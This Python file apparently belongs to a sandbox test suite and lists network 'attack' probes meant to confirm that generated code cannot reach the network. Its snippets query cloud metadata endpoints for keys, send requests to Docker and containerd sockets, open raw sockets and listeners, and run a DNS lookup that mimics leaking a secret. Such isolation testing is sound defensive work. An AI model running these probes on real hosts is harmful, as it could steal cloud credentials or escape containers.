"""Programs that want to reach something over a socket."""

from codegen_hpo.testing.attacks.attack import Attack, attacks_of, attempting

_make = attacks_of("network")

NETWORK: tuple[Attack, ...] = (
    _make(
        "connects-to-the-host",
        attempting("""
import socket
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", $port), timeout=2))
attempt("tcp by number", lambda: syscall((42, 203), syscall((41, 198), 2, 1, 0),
    b"\\x02\\x00" + ($port).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8), 16))
"""),
    ),
    _make(
        "connects-without-python-sockets",
        attempting("""
libc = _LIBC
fd = attempt("a socket of libc", lambda: checked(libc.socket(2, 1, 0)))
attempt("a socket of IPv6", lambda: checked(libc.socket(10, 1, 0)))
attempt("a raw socket", lambda: checked(libc.socket(2, 3, 1)))
attempt("a packet socket", lambda: checked(libc.socket(17, 3, 0)))
"""),
    ),
    _make(
        "sends-datagrams",
        attempting("""
import socket
def send(to):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return s.sendto(b"breach", to)
attempt("a datagram to the host", lambda: send(("127.0.0.1", $port)))
attempt("a datagram to a name server", lambda: send(("127.0.0.53", 53)))
"""),
    ),
    _make(
        "asks-a-name-server",
        attempting("""
import socket
attempt("a name", lambda: socket.getaddrinfo("codegen-hpo-attack.invalid.", 80))
attempt("a name with a secret", lambda: socket.gethostbyname("secret.example.com"))
"""),
        timeout_s=6.0,
    ),
    _make(
        "asks-the-cloud-for-its-keys",
        attempting("""
import socket
for address in ("169.254.169.254", "100.100.100.200", "metadata.google.internal"):
    attempt(address, lambda: socket.create_connection((address, 80), timeout=1))
"""),
        timeout_s=6.0,
    ),
    _make(
        "connects-to-unix-sockets",
        attempting("""
import socket
def connect(address):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(address)
    return s.getpeername()
attempt("a socket file", lambda: connect("$unix_socket"))
attempt("an abstract socket", lambda: connect("\\0$abstract_socket"))
attempt("the system bus", lambda: connect("/run/dbus/system_bus_socket"))
"""),
    ),
    _make(
        "asks-the-engine",
        attempting("""
import socket
def ask(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(path)
    s.sendall(b"GET /version HTTP/1.0\\r\\n\\r\\n")
    return s.recv(100)
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
             "/run/podman/podman.sock", "/run/snapd.socket"):
    attempt(path, lambda: ask(path))
"""),
    ),
    _make(
        "opens-kernel-sockets",
        attempting("""
import socket
for family, kind, protocol in ((16, 3, 0), (16, 3, 9), (40, 1, 0), (38, 5, 0), (29, 3, 1), (31, 1, 3)):
    attempt(f"socket({family}, {kind}, {protocol})", lambda: socket.socket(family, kind, protocol))
"""),
    ),
    _make(
        "listens",
        attempting("""
import socket
def listen(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.bind(address)
    s.listen()
    if address[0] == "/":
        os.unlink(address)
    return s.getsockname()
attempt("tcp", lambda: listen(socket.AF_INET, ("0.0.0.0", 0)))
attempt("abstract", lambda: listen(socket.AF_UNIX, "\\0codegen-hpo-attack"))
attempt("file", lambda: listen(socket.AF_UNIX, "/tmp/codegen-hpo-attack.sock"))
"""),
    ),
    _make(
        "opens-a-store-of-torch",
        attempting("""
from datetime import timedelta
from torch.distributed import TCPStore
attempt("a client", lambda: TCPStore("127.0.0.1", $port, 1, False, timeout=timedelta(seconds=1)))
attempt("a server", lambda: TCPStore("127.0.0.1", 0, 1, True, timeout=timedelta(seconds=1)))
"""),
        timeout_s=8.0,
    ),
    _make(
        "fetches-with-urllib",
        attempting("""
import urllib.request
attempt("http", lambda: urllib.request.urlopen("http://127.0.0.1:$port/", timeout=2).read(10))
attempt("a model hub", lambda: torch.hub.load_state_dict_from_url("http://127.0.0.1:$port/w.pt", "/tmp"))
"""),
    ),
)
